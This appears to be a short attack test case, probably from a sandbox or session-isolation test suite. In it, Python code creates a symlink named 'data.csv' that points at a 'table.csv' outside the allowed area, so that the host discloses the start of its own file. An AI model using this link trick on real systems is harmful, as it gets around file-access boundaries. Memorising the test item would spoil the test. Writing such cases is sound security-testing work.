# attack: Has the host tell what a file of its own begins with, over a link.
# kind: session
# seen: listing
import os
os.symlink(argument["outside"] + "/table.csv", "data.csv")
